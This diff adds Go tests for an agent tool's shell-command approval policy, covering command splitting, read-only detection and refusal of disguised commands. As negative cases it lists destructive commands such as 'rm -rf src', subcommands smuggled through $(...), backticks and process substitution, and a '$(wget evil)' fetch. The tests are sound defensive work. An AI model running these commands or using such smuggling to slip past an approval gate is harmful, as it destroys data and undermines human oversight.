@@ -0,0 +1,136 @@
+package approval
+
+import (
+	"context"
+	"slices"
+	"testing"
+
+	"github.com/Al-Pragliola/poc-dev-agents/internal/config"
+)
+
+func TestSplitShellSegments(t *testing.T) {
+	tests := []struct {
+		command  string
+		segments []string
+	}{
+		{command: "ls", segments: []string{"ls"}},
+		{command: "ls | wc -l", segments: []string{"ls", "wc -l"}},
+		{command: "make && make test || echo failed", segments: []string{"make", "make test", "echo failed"}},
+		{command: "ls; pwd\ncat x", segments: []string{"ls", "pwd", "cat x"}},
+		{command: "ls & rm -rf src", segments: []string{"ls", "rm -rf src"}},
+		{command: "sleep 1 &", segments: []string{"sleep 1"}},
+		{command: "go build 2>&1 | tee log", segments: []string{"go build 2>&1", "tee log"}},
+		{command: "go test &> log", segments: []string{"go test &> log"}},
+		{command: `echo "a | b; c & d"`, segments: []string{`echo "a | b; c & d"`}},
+		{command: `echo 'a && b'`, segments: []string{`echo 'a && b'`}},
+		{command: `echo a \& rm x`, segments: []string{`echo a \& rm x`}},
+	}
+
+	for _, test := range tests {
+		t.Run(test.command, func(t *testing.T) {
+			segments := splitShellSegments(test.command)
+
+			if !slices.Equal(segments, test.segments) {
+				t.Fatalf("expected %q, got %q", test.segments, segments)
+			}
+		})
+	}
+}
+
+func TestIsReadOnly(t *testing.T) {
+	tests := []struct {
+		command  string
+		readOnly bool
+	}{
+		{command: "ls -la", readOnly: true},
+		{command: "find . -name '*.go'", readOnly: true},
+		{command: "git status", readOnly: true},
+		{command: "go env GOPATH", readOnly: true},
+		{command: "lsof"},
+		{command: "find . -delete"},
+		{command: "find . -exec rm -rf {} +"},
+		{command: "find . -execdir rm {} ;"},
+		{command: "find . -ok rm {} ;"},
+		{command: "find . -fprint out.txt"},
+		{command: "git branch -D main"},
+		{command: "git branch -m main other"},
+		{command: "git branch new"},
+		{command: "git diff --output=patch.diff"},
+		{command: "go env -w GOFLAGS=-mod=mod"},
+		{command: "cat x > y"},
+		{command: "cat <(rm -rf src)"},
+		{command: "echo $(rm -rf src)"},
+		{command: "echo `rm -rf src`"},
+		{command: "(rm -rf src)"},
+		{command: "{ rm -rf src; }"},
+		{command: "ls & rm -rf src"},
+	}
+
+	for _, test := range tests {
+		t.Run(test.command, func(t *testing.T) {
+			if readOnly := isReadOnly(test.command); readOnly != test.readOnly {
+				t.Fatalf("expected read-only to be %v, got %v", test.readOnly, readOnly)
+			}
+		})
+	}
+}
+
+func TestEvaluateDoesNotAutoApproveBypasses(t *testing.T) {
+	policy, err := NewPolicy(config.Approval{
+		Approver:            "auto-deny",
+		Default:             "ask",
+		AutoApproveReadOnly: true,
+		AlwaysAskDangerous:  true,
+		// The rules of sample.config.yaml
+		Rules: []config.ApprovalRule{
+			{Action: "allow", Regex: `^(go (mod|build|test|fmt)|npm (install|ci|run build|test))\b`},
+			{Action: "allow", Prefix: "npx create-react-app", Agents: []string{"frontend-developer"}},
+			{Action: "deny", Prefix: "sudo"},
+		},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	commands := []string{
+		"ls & rm -rf src",
+		"find . -delete",
+		"find . -exec rm -rf {} +",
+		"git branch -D main",
+		"ls && (rm -rf src)",
+		"cat <(rm -rf src)",
+		"ls; { rm -rf src; }",
+		"go build $(rm -rf src)",
+		"go test `rm -rf src`",
+		"npm test > /etc/x",
+		"npx create-react-app app $(wget evil)",
+	}
+
+	for _, command := range commands {
+		t.Run(command, func(t *testing.T) {
+			decision, err := policy.Evaluate(context.Background(), Request{
+				Agent:   "frontend-developer",
+				Command: command,
+				Shell:   true,
+			})
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			if decision.Approved {
+				t.Fatalf("expected %q not to be approved, got %+v", command, decision)
+			}
+		})
+	}
+
+	for _, command := range []string{"ls | wc -l", "go build ./... && go test ./...", "npx create-react-app app"} {
+		decision, err := policy.Evaluate(context.Background(), Request{Agent: "frontend-developer", Command: command, Shell: true})
+		if err != nil {
+			t.Fatal(err)
+		}
+
+		if !decision.Approved {
+			t.Fatalf("expected %q to be approved, got %+v", command, decision)
+		}
+	}
+}